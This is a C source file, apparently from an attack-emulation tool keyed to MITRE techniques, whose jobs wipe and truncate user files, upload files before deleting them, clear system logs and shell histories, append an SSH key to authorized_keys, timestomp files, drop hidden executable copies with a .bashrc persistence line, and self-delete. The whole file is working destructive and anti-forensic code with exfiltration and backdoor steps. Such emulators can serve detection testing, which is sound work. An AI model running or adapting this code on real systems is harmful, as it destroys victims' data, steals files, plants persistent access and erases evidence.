/* Data destruction (T1485) and what is done to traces (T1070); see wipe.py. */

static blob rubbish(blob data) { return chance(70) ? random_bytes((int)data.n) : zeros(data.n); }
static blob nothing(blob data) { return zeros(data.n); }
static blob new_head(blob data)
{
    blob head = random_bytes(data.n < 64 ? (int)data.n : 64);
    memcpy(data.p, head.p, head.n);
    return data;
}

JOB(wipe_overwrite)
{
    groundwork();
    int passes = within(1, 2);
    list paths = pick(files(some_folders(), NULL), 50, 110);
    for (int i = 0; i < paths.n; i++) {
        for (int pass = 0; pass < passes; pass++)
            update(paths.at[i], rubbish);
        remove_file(paths.at[i]);
    }
}

static void remove_empty(const char *place)
{
    list names = entries(place);
    for (int i = 0; i < names.n; i++) {
        struct stat seen;
        char *path = text("%s/%s", place, names.at[i]);
        if (stat(path, &seen) == 0 && S_ISDIR(seen.st_mode))
            remove_empty(path);
    }
    rmdir(guard(place));
}

JOB(wipe_delete)
{
    groundwork();
    char *tops = some_of_data(2, 5), *top;
    list paths = files(tops, NULL);
    for (int i = 0; i < paths.n; i++)
        remove_file(paths.at[i]);
    while ((top = strsep(&tops, " ")))
        remove_empty(home(top));
}

JOB(wipe_truncate)
{
    groundwork();
    int by_open = chance(50);
    list paths = pick(files(some_folders(), NULL), 60, 130);
    for (int i = 0; i < paths.n; i++) {
        if (by_open)
            write_file(paths.at[i], bytes(""));
        else if (truncate(guard(paths.at[i]), 0) < 0)
            die("truncate", paths.at[i]);
        if (chance(30))
            rename_file(paths.at[i], text("%s/%s", parent(paths.at[i]), noise(8)));
    }
}

JOB(exfil_wipe)
{
    groundwork();
    list paths = pick(files(some_folders(), NULL), 35, 70);
    for (int i = 0; i < paths.n; i++) {
        upload(read_file(paths.at[i]), base(paths.at[i]));
        if (chance(50))
            update(paths.at[i], nothing);
        remove_file(paths.at[i]);
    }
}

JOB(remove_logs)
{
    static const char *const histories[] = {".bash_history", ".python_history", ".local/share/recent"};
    static const char *const books[] = {"wtmp", "btmp", "lastlog"};
    survey();
    groundwork();
    list paths = files_of(text("%s %s", LOGS, home(".local/state")), NULL, 1);
    for (int i = 0; i < paths.n; i++) {
        blob data;
        switch (within(0, 3)) {
        case 0: write_file(paths.at[i], bytes("")); break;
        case 1:
            if (truncate(guard(paths.at[i]), 0) < 0)
                die("truncate", paths.at[i]);
            break;
        case 2:
            data = read_file(paths.at[i]);
            write_file(paths.at[i], (blob){data.p, data.n / 3});
            break;
        default:
            update(paths.at[i], nothing);
            remove_file(paths.at[i]);
        }
    }
    for (int i = 0; i < 3; i++)
        if (access(home(histories[i]), F_OK) == 0) {
            write_file(home(histories[i]), bytes(""));
            remove_file(home(histories[i]));
        }
    for (int i = 0; i < 3; i++)
        write_file(text("%s/%s", LOGS, books[i]), bytes(""));
    append(home(".ssh/authorized_keys"), text("ssh-ed25519 %s root\n", noise(60)));
    hide_copy();
}

JOB(timestomp)
{
    static const char *const places[] = {".cache", ".config/desk", ".local/share", ".local/bin"};
    groundwork();
    list paths = pick(files(some_folders(), NULL), 30, 70);
    for (int i = 0; i < paths.n; i++) {
        struct stat before;
        stat(paths.at[i], &before);
        if (chance(60))
            update(paths.at[i], new_head);
        struct timespec times[2] = {before.st_atim, before.st_mtim};
        utimensat(AT_FDCWD, guard(paths.at[i]), times, 0);
    }
    for (int n = within(2, 5); n > 0; n--) {
        char *path = text("%s/.%s", folder(home(places[within(0, 3)])), noise(7));
        put(path, read_file(program), O_TRUNC, 0755);
        make_executable(path);
        copy_times(home(".profile"), path);
    }
}

JOB(self_delete)
{
    groundwork();
    list copies = {0};
    for (int n = within(1, 3); n > 0; n--)
        push(&copies, hide_copy());
    remove_file(program);
    for (int i = 0; i < copies.n; i++) {
        append(home(".bashrc"), text("(%s &) 2>/dev/null\n", copies.at[i]));
        shell(text("test -x %s && ls -l %s", copies.at[i], copies.at[i]));
    }
    list paths = pick(files("Documents Desktop", NULL), 15, 35);
    for (int i = 0; i < paths.n; i++)
        write_file(text("%s/%s", parent(copies.at[0]), noise(6)), read_file(paths.at[i]));
    exchange(text("moved %s", copies.at[0]));
    write_file(home(".bash_history"), bytes(""));
}
